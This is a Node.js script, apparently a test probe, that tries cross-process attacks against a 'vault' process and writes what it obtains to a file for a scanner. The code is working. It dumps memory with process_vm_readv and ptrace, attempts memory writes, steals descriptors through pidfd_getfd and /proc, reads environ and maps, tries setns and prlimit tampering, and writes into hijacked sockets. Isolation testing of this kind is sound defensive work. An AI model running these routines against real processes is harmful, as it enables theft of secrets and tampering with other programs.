// What an attacker tries on another process with system calls: `node steal.mjs WAY PID ...` prints a JSON list of what the
// system said to each try. What it gets it writes to the file OUT, for the scanner.
import { closeSync, openSync, readdirSync, readFileSync, readlinkSync, readSync, writeSync } from "node:fs"
import { createRequire } from "node:module"
import { constants } from "node:os"

const koffi = createRequire(new URL("../app/", import.meta.url))("koffi")
const libc = koffi.load(null)
const syscall = libc.func("long syscall(long, intptr_t, intptr_t, intptr_t, intptr_t, intptr_t, intptr_t)")

const x64 = process.arch === "x64"
const numbers = {
  readv: x64 ? 310 : 270,
  writev: x64 ? 311 : 271,
  ptrace: x64 ? 101 : 117,
  setns: x64 ? 308 : 268,
  prlimit: x64 ? 302 : 261,
  pidfdOpen: 434,
  pidfdGetfd: 438,
  wait4: x64 ? 61 : 260,
}

const names = new Map(Object.entries(constants.errno).map(([name, number]) => [number, name]))
const call = (name, ...values) => {
  const result = Number(syscall(numbers[name], ...values, ...new Array(6 - values.length).fill(0)))
  return result < 0 ? { error: names.get(koffi.errno()) ?? `errno ${koffi.errno()}` } : { value: result }
}
const word = ({ error }) => error ?? "done"
const attempt = (action) => {
  try {
    return action() ?? "done"
  } catch (error) {
    return error.code ?? error.message
  }
}

/** An iovec: address and length. */
function iovec(address, length) {
  const bytes = Buffer.alloc(16)
  bytes.writeBigUInt64LE(BigInt(address), 0)
  bytes.writeBigUInt64LE(BigInt(length), 8)
  return bytes
}

function regions(pid) {
  return readFileSync(`/proc/${pid}/maps`, "latin1")
    .split("\n")
    .flatMap((line) => {
      const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line) ?? []
      return from && to ? [[BigInt(`0x${from}`), BigInt(`0x${to}`)]] : []
    })
}

/** Where something is mapped in most processes of this program: for who isn't told the map. */
const anywhere = () => regions(process.pid)

const ways = {
  /** process_vm_readv(2) of all that can be written. */
  readv(pid, out) {
    const piece = Buffer.alloc(2 ** 20)
    const file = openSync(out, "w")
    const said = new Set()
    const map = attempt(() => regions(pid))
    for (const [from, to] of Array.isArray(map) ? map : anywhere()) {
      for (let at = from; at < to; at += BigInt(piece.length)) {
        const length = Number(to - at < BigInt(piece.length) ? to - at : BigInt(piece.length))
        const here = iovec(koffi.address(piece), length)
        const there = iovec(at, length)
        const result = call("readv", Number(pid), koffi.address(here), 1, koffi.address(there), 1, 0)
        said.add(word(result))
        if (result.value > 0) writeSync(file, piece, 0, result.value)
      }
    }
    closeSync(file)
    return [`maps: ${Array.isArray(map) ? "done" : map}`, ...[...said].map((one) => `process_vm_readv: ${one}`)]
  },
  /** Writes to it: to change code, or a check. */
  writev(pid) {
    const nothing = Buffer.alloc(8)
    const here = iovec(koffi.address(nothing), 8)
    const map = attempt(() => regions(pid))
    const there = iovec((Array.isArray(map) ? map : anywhere())[0][0], 8)
    // What is there already, so that the victim lives on.
    call("readv", Number(pid), koffi.address(here), 1, koffi.address(there), 1, 0)
    return [
      `process_vm_writev: ${word(call("writev", Number(pid), koffi.address(here), 1, koffi.address(there), 1, 0))}`,
    ]
  },
  /** Attaches a debugger to every thread, and reads by it. */
  ptrace(pid, out) {
    const [seize, interrupt, detach] = [0x4206, 0x4207, 17]
    const threads = attempt(() => readdirSync(`/proc/${pid}/task`))
    const said = []
    for (const thread of Array.isArray(threads) ? threads : [pid]) {
      const attached = call("ptrace", seize, Number(thread), 0, 0)
      said.push(`ptrace seize: ${word(attached)}`)
      if (attached.error) continue
      call("ptrace", interrupt, Number(thread), 0, 0)
      call("wait4", Number(thread), 0, 0x40000000, 0)
      if (thread === pid) said.push(...ways.readv(pid, out))
      call("ptrace", detach, Number(thread), 0, 0)
    }
    return [...new Set(said)]
  },
  /** Its descriptors, by /proc and by pidfd_getfd(2); its mapped files; its folders. */
  files(pid, out) {
    const file = openSync(out, "w")
    const said = new Set()
    const piece = Buffer.alloc(2 ** 20)
    const copy = (descriptor) => {
      for (let at = 0, count = 1; count > 0 && at < 2 ** 26; at += count) {
        count = readSync(descriptor, piece, 0, piece.length, at)
        writeSync(file, piece, 0, count)
      }
      closeSync(descriptor)
    }
    for (const folder of ["fd", "map_files"]) {
      const entries = attempt(() => readdirSync(`/proc/${pid}/${folder}`))
      said.add(`list ${folder}: ${Array.isArray(entries) ? "done" : entries}`)
      for (const entry of Array.isArray(entries) ? entries : ["0", "3", "10", "20"]) {
        const path = `/proc/${pid}/${folder}/${entry}`
        const target = attempt(() => readlinkSync(path))
        if (/^(pipe|socket|anon_inode|\/dev)/.test(target)) continue
        said.add(`open ${folder}: ${attempt(() => copy(openSync(path, "r")))}`)
      }
    }
    const pidfd = call("pidfdOpen", Number(pid), 0)
    said.add(`pidfd_open: ${word(pidfd)}`)
    for (let descriptor = 0; pidfd.value !== undefined && descriptor < 48; descriptor++) {
      const got = call("pidfdGetfd", pidfd.value, descriptor, 0)
      if (got.error === "EBADF") continue
      said.add(`pidfd_getfd: ${word(got)}`)
      if (got.value !== undefined) attempt(() => copy(got.value))
    }
    for (const folder of ["cwd", "root"]) {
      said.add(`list ${folder}: ${attempt(() => void readdirSync(`/proc/${pid}/${folder}/`))}`)
    }
    for (const one of ["environ", "maps", "smaps", "auxv", "stack", "syscall", "io", "pagemap"]) {
      said.add(`open ${one}: ${attempt(() => void closeSync(openSync(`/proc/${pid}/${one}`, "r")))}`)
    }
    closeSync(file)
    return [...said]
  },
  /** Its namespaces. */
  setns(pid) {
    const said = []
    for (const name of ["user", "mnt", "net", "ipc", "pid"]) {
      said.push(`open ns/${name}: ${attempt(() => void closeSync(openSync(`/proc/${pid}/ns/${name}`, "r")))}`)
    }
    const [mounts, user] = [0x00020000, 0x10000000]
    const pidfd = call("pidfdOpen", Number(pid), 0)
    said.push(`setns: ${word(call("setns", pidfd.value ?? -1, mounts | user))}`)
    return said
  },
  /** Raises what the vault lowered, and lowers what it needs. */
  prlimit(pid) {
    const [core, files, locked, space] = [4, 7, 8, 9]
    const limit = (soft, hard) => {
      const bytes = Buffer.alloc(16)
      bytes.writeBigUInt64LE(soft, 0)
      bytes.writeBigUInt64LE(hard, 8)
      return koffi.address(bytes)
    }
    const unlimited = 2n ** 64n - 1n
    return [
      `raise core: ${word(call("prlimit", Number(pid), core, limit(unlimited, unlimited), 0))}`,
      `lower locked memory: ${word(call("prlimit", Number(pid), locked, limit(0n, 0n), 0))}`,
      `lower files: ${word(call("prlimit", Number(pid), files, limit(64n, 64n), 0))}`,
      `lower address space: ${word(call("prlimit", Number(pid), space, limit(2n ** 40n, 2n ** 40n), 0))}`,
    ]
  },
  /** A duplicate of a descriptor of another process: a channel, written to and read from. */
  channel(pid, out, from, to) {
    const said = []
    const file = openSync(out, "w")
    const piece = Buffer.alloc(2 ** 16)
    const noise = Buffer.alloc(4096, 0x41)
    const pidfd = call("pidfdOpen", Number(pid), 0)
    for (let descriptor = Number(from); descriptor <= Number(to); descriptor++) {
      said.push(
        `open fd/${descriptor}: ${attempt(() => void closeSync(openSync(`/proc/${pid}/fd/${descriptor}`, "r+")))}`,
      )
      const got = call("pidfdGetfd", pidfd.value ?? -1, descriptor, 0)
      if (got.error === "EBADF") continue
      said.push(`pidfd_getfd ${descriptor}: ${word(got)}`)
      if (got.value === undefined) continue
      if (!/^socket/.test(readlinkSync(`/proc/self/fd/${got.value}`))) continue
      said.push(`write ${descriptor}: ${attempt(() => void writeSync(got.value, noise))}`)
      attempt(() => void writeSync(file, piece, 0, readSync(got.value, piece)))
    }
    closeSync(file)
    return said
  },
}

const [, , way, ...values] = process.argv
console.log(JSON.stringify(ways[way](...values)))
